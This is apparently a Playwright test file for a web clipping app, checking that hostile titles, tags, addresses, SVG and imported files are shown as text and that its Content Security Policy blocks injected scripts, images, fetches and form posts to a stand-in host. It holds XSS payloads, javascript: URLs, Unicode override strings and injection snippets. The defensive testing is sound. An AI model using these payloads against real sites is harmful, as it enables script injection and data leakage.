"""Hostile titles, texts, tags, addresses, images and files in the app: text, and nothing runs."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Route, expect

from tests.browser.app import WAIT_MS, App, watched_app
from tests.browser.conftest import Site

pytestmark = pytest.mark.browser

SCRIPT = "<img src=x onerror=\"ran('html')\"><script>ran('script')</script>"
BREAKOUT = "\"'></textarea><svg onload=ran('svg')>{{ran('template')}}"
CONTROLS = "".join(map(chr, range(1, 32))) + "\x7f\x85\u2028\ufeff\ud800"
OVERRIDE = (
    "\u202eevil\u2066\u2069\u2069\u202e"  # turns the rest of a line around, and leaves isolates
)
SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="parent.ran('onload')">
<script>parent.ran('svg')</script><image href="https://example.org/x.png" onerror="ran('e')"/></svg>"""
HOSTILE: list[dict[str, Any]] = [
    {"title": SCRIPT, "body": SCRIPT, "note": SCRIPT, "tags": [SCRIPT]},
    {"title": BREAKOUT, "body": BREAKOUT, "tags": [BREAKOUT]},
    {"title": "scheme", "address": "javascript:ran('address')"},
    {"title": "data", "address": "data:text/html,<script>opener.ran('data')</script>"},
    {"title": f"controls {CONTROLS}", "body": CONTROLS, "note": CONTROLS},
    {"title": f"{OVERRIDE} title", "body": OVERRIDE, "tags": [f"{OVERRIDE} tag"]},
    {"title": "x" * 1_000_000},
    {"title": "an odd date", "created": 8.64e15 + 1},
]


@pytest.fixture
def app(context: BrowserContext, site: Site) -> App:
    return watched_app(context, site.address)


def expect_nothing_ran(app: App) -> None:
    """Check that nothing ran or tried to, and that nothing was asked of another site."""
    app.page.wait_for_timeout(100)
    assert app.page.evaluate("globalThis.list ?? []") == []
    assert app.watched.complaints == []
    assert all(url.startswith((app.address, "data:")) for url in app.watched.requests)


def test_what_is_hostile_is_shown_as_text_and_runs_nothing(app: App) -> None:
    made = [{"key": f"{n}", "created": 1.76e12 - n, **one} for n, one in enumerate(HOSTILE)]
    app.seed(*made)
    page = app.page
    expect(page.locator("[role=status]").first).to_have_text("8 cutouts", timeout=WAIT_MS)
    assert SCRIPT in app.titles()
    assert BREAKOUT in app.titles()
    for place in range(len(made)):
        page.locator(".line .title").nth(place).click()
        expect(page.get_by_role("dialog")).to_be_visible(timeout=WAIT_MS)
        assert page.get_by_role("dialog").locator("a[href]").count() == 0
        page.keyboard.press("Escape")
        expect(page.get_by_role("dialog")).to_have_count(0)
    page.get_by_label("Search").fill("scheme")
    expect(page.locator("[role=status]").first).to_have_text("1 cutout", timeout=WAIT_MS)
    expect_nothing_ran(app)


def test_an_svg_with_handlers_is_shown_as_an_image_and_runs_nothing(app: App) -> None:
    app.carry("drop", files=[[f"{SCRIPT}.svg", "image/svg+xml", SVG]])
    app.expect_notice("Saved")
    app.page.locator(".line .title").first.click()
    expect(app.page.locator("img.picture")).to_be_visible(timeout=WAIT_MS)
    app.page.wait_for_function("() => document.querySelector('img.picture').naturalWidth === 9")
    expect_nothing_ran(app)


def test_a_hostile_file_with_a_hostile_name_is_brought_in_as_text(app: App) -> None:
    rows = [
        {"url": "javascript:ran(1)", "title": SCRIPT},
        {"url": "https://example.org/", "title": SCRIPT, "tags": [SCRIPT], "note": BREAKOUT},
        {"text": OVERRIDE + CONTROLS, "title": BREAKOUT},
    ]
    name = f"{OVERRIDE}{SCRIPT.replace('/', '')}.json"
    app.carry("drop", files=[[name, "application/json", json.dumps(rows)]])
    app.page.get_by_role("button", name="Bring in").click()
    expect(app.page.locator(".report p")).to_contain_text("2 added", timeout=WAIT_MS)
    app.page.locator(".report summary").click()
    expect_nothing_ran(app)


# Where the words after the hostile ones are drawn: to the right of them, when nothing is turned.
PLACES = """
([selector, after]) => {
  const text = [];
  for (const root of document.querySelectorAll(selector)) {
    const walk = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
    while (walk.nextNode()) text.push(walk.currentNode);
  }
  const node = text.find(({ data }) => data.includes(after));
  const at = node.data.lastIndexOf(after);
  const left = (from) => {
    const range = document.createRange();
    range.setStart(node, from);
    range.setEnd(node, from + 1);
    return range.getBoundingClientRect().left;
  };
  return [left(at), left(at + after.length - 1)];
}
"""


def expect_in_order(app: App, selector: str, after: str) -> None:
    """Check that these words are drawn from left to right."""
    first, last = app.page.evaluate(PLACES, [selector, after])
    assert first < last


def test_what_turns_writing_around_leaves_the_rest_of_the_line_alone(app: App) -> None:
    app.seed(
        {"key": "one", "title": OVERRIDE, "tags": [OVERRIDE], "address": "https://example.org/"}
    )
    page = app.page
    expect(page.locator(".line .title")).to_be_visible(timeout=WAIT_MS)
    expect_in_order(app, ".line", "example.org")
    page.locator("li.line").get_by_role("button", name="Remove").click()
    app.expect_notice("Removed “evil”")
    app.carry("drop", files=[[f"{OVERRIDE}.csv", "text/csv", "url\nhttps://example.com/\n"]])
    page.get_by_role("button", name="Bring in").click()
    expect(page.locator(".report p")).to_contain_text("1 added", timeout=WAIT_MS)
    expect_in_order(app, ".report", "added,")
    expect_nothing_ran(app)


# What a fault of the app would let into the page, and the part of the policy that stops it there.
INTO_THE_PAGE: dict[str, tuple[str, str]] = {
    "an inline script": (
        "place.append(Object.assign(document.createElement('script'), { text: `ran('it')` }))",
        "script-src-elem inline",
    ),
    "an image with a handler": (
        "place.innerHTML = `<img src='data:,' onerror='ran(1)'>`",
        "script-src-attr inline",
    ),
    "a link that runs": (
        "place.innerHTML = `<a href='javascript:ran(1)'>x</a>`; place.firstChild.click()",
        "script-src-elem inline",
    ),
    "a text that is run": (
        "setTimeout(() => { try { new Function('ran(1)')(); } catch {} })",
        "script-src eval",
    ),
    "a script of another site": (
        "place.append(Object.assign(document.createElement('script'), { src: ELSEWHERE }))",
        "script-src-elem https://elsewhere.example/x.js",
    ),
    "a picture of another site": (
        "place.innerHTML = `<img src='${ELSEWHERE}'>`",
        "img-src https://elsewhere.example/x.js",
    ),
    "a request to another site": (
        "fetch(ELSEWHERE).catch(() => undefined)",
        "connect-src https://elsewhere.example/x.js",
    ),
    "a form to another site": (
        "place.innerHTML = `<form method='post' target='_blank' action='${ELSEWHERE}'></form>`; "
        "place.firstChild.submit()",
        "form-action https://elsewhere.example/x.js",
    ),
}
INJECT = """
() => {
  const ELSEWHERE = "https://elsewhere.example/x.js";
  globalThis.stopped = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
    stopped.push(`${effectiveDirective} ${blockedURI}`));
  const place = document.createElement("div");
  document.body.append(place);
  WHAT;
}
"""


def let_in(app: App, what: str) -> list[str]:
    """Do it in the page, and return what another site is asked from then on."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(body="ran('elsewhere')", content_type="text/javascript")

    app.context.route("https://elsewhere.example/**", answer)
    app.page.evaluate(INJECT.replace("WHAT", what))
    return asked


@pytest.mark.parametrize(("what", "stopped"), INTO_THE_PAGE.values(), ids=INTO_THE_PAGE.keys())
def test_what_a_fault_let_into_the_page_is_stopped_by_its_policy(
    app: App, what: str, stopped: str
) -> None:
    asked = let_in(app, what)
    app.page.wait_for_function("() => stopped.length > 0")
    app.page.wait_for_timeout(100)
    assert app.page.evaluate("stopped") == [stopped]
    assert app.page.evaluate("globalThis.list ?? []") == []
    assert asked == []


@pytest.mark.parametrize("what", [what for what, _ in INTO_THE_PAGE.values()], ids=INTO_THE_PAGE)
def test_without_the_policy_it_runs_or_leaves(chromium: Browser, site: Site, what: str) -> None:
    with chromium.new_context(bypass_csp=True, service_workers="block") as context:
        context.add_init_script("globalThis.ran = () => { globalThis.hasRun = true; };")
        app = App(context, site.address).later()
        asked = let_in(app, what)
        for _ in range(100):
            if asked or app.page.evaluate("globalThis.hasRun === true"):
                return
            app.page.wait_for_timeout(50)
        pytest.fail("it did nothing: then nothing proves that the policy stopped it")
